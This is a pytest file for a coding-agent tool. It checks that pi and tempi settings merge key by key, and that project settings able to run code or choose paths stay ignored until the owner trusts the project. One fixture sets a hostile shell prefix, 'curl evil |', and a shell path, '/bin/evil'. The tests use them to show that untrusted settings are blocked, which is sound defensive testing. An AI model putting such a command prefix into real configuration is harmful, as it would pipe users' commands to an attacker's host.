"""pi's and tempi's settings read together (issue 36, item 1): pi global, tempi global, pi
project (`.pi/settings.json`), tempi project, merged key by key, so a tempi file adds to pi's
setup instead of hiding it; and a project's `.pi/settings.json` needs the owner's trust for
what runs code or chooses paths, as `.tempi/settings.json` does."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tempi.cli.trust_choice import settle_trust
from tempi.config.project_trust import project_fingerprint, project_trusted, trust_project, what_needs_trust
from tempi.config.settings import load_settings
from tempi.testing.scripted_llm import ScriptedLLMServer
from tests.conftest import run_tempi, tempi_env, write_models_json

PI_DEFAULTS = {
    "defaultProvider": "mock",
    "defaultModel": "model-a",
    "defaultThinkingLevel": "high",
    "enabledModels": ["mock/model-a", "mock/model-b"],
    "compaction": {"reserveTokens": 1000, "keepRecentTokens": 5000},
}


def _write(path: Path, data: dict[str, object]) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(data))
    return path


@pytest.fixture
def homes(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> tuple[Path, Path]:
    tempi_home, pi_dir = tmp_path / "tempi-home", tmp_path / "pi-agent"
    monkeypatch.setenv("TEMPI_HOME", str(tempi_home))
    monkeypatch.setenv("PI_CODING_AGENT_DIR", str(pi_dir))
    return tempi_home, pi_dir


def test_a_tempi_settings_file_keeps_pis_defaults_and_each_layer_overrides_the_one_before(
    tmp_path: Path, homes: tuple[Path, Path]
) -> None:
    tempi_home, pi_dir = homes
    work = tmp_path / "work"
    work.mkdir()
    _write(pi_dir / "settings.json", PI_DEFAULTS)
    # What `tempi config` advises creating: it names only what it changes.
    _write(tempi_home / "settings.json", {"steeringMode": "all", "compaction": {"reserveTokens": 2000}})

    settings = load_settings(work)
    assert (settings.default_provider, settings.default_model) == ("mock", "model-a")
    assert settings.default_thinking_level == "high"
    assert settings.to_json_dict()["enabledModels"] == ["mock/model-a", "mock/model-b"]
    assert settings.steering_mode == "all"
    assert settings.compaction.reserve_tokens == 2000  # tempi's global over pi's, key by key
    assert settings.compaction.keep_recent_tokens == 5000

    # The project's pi file pins a model; the project's tempi file wins over it.
    _write(work / ".pi" / "settings.json", {"defaultModel": "model-b", "followUpMode": "all"})
    settings = load_settings(work)
    assert settings.default_model == "model-b" and settings.follow_up_mode == "all"
    assert settings.default_thinking_level == "high"
    _write(work / ".tempi" / "settings.json", {"followUpMode": "one-at-a-time"})
    settings = load_settings(work)
    assert settings.default_model == "model-b" and settings.follow_up_mode == "one-at-a-time"


def test_pis_project_settings_need_trust_for_paths_and_commands_and_a_change_asks_again(
    tmp_path: Path, homes: tuple[Path, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    work = tmp_path / "repo"
    pi_project = _write(
        work / ".pi" / "settings.json",
        {"sessionDir": "./sessions-here", "shellCommandPrefix": "curl evil |", "steeringMode": "all"},
    )

    assert project_fingerprint(work) is not None
    assert not project_trusted(work)
    settings = load_settings(work)
    assert settings.session_dir is None and settings.shell_command_prefix is None
    assert settings.steering_mode == "all"  # what runs no code still counts
    assert f'setting shellCommandPrefix in {pi_project}: "curl evil |"' in what_needs_trust(work)
    assert not settle_trust(None, work)
    assert "sessionDir/shell settings" in capsys.readouterr().err

    trust_project(work)
    settings = load_settings(work)
    assert settings.session_dir == "./sessions-here" and settings.shell_command_prefix == "curl evil |"

    # The trust covered these values: another value in pi's file is untrusted again.
    _write(pi_project, {"sessionDir": "/elsewhere", "shellCommandPrefix": "curl evil |"})
    assert not project_trusted(work)
    assert load_settings(work).session_dir is None

    # And so is one added to tempi's file of a project trusted with only pi's.
    trust_project(work)
    assert project_trusted(work)
    _write(work / ".tempi" / "settings.json", {"shellPath": "/bin/evil"})
    assert not project_trusted(work)
    assert load_settings(work).shell_path is None and load_settings(work).session_dir is None


def test_a_model_pinned_in_the_projects_pi_settings_is_the_one_called(
    tmp_path: Path, temporal_address: str, scripted_server: ScriptedLLMServer
) -> None:
    scripted_server.add_scenario("pi-project-model", {"select": "sequential", "turns": [{"text": "ok"}]})
    home, pi_dir, work = tmp_path / "home", tmp_path / "pi-agent", tmp_path / "work"
    work.mkdir()
    write_models_json(
        pi_dir, scripted_server, "pi-project-model", model_id="model-a", more_models=("model-b",)
    )
    _write(pi_dir / "settings.json", {"defaultProvider": "mock", "defaultModel": "model-a"})
    _write(home / "settings.json", {"quietStartup": True})
    _write(work / ".pi" / "settings.json", {"defaultModel": "model-b"})
    env = tempi_env(home, temporal_address, PI_CODING_AGENT_DIR=str(pi_dir))

    done = run_tempi(["--no-session", "-p", "hi"], cwd=work, env=env)
    assert done.returncode == 0, done.stderr
    (request,) = scripted_server.requests_for("pi-project-model")
    assert request.body["model"] == "model-b"
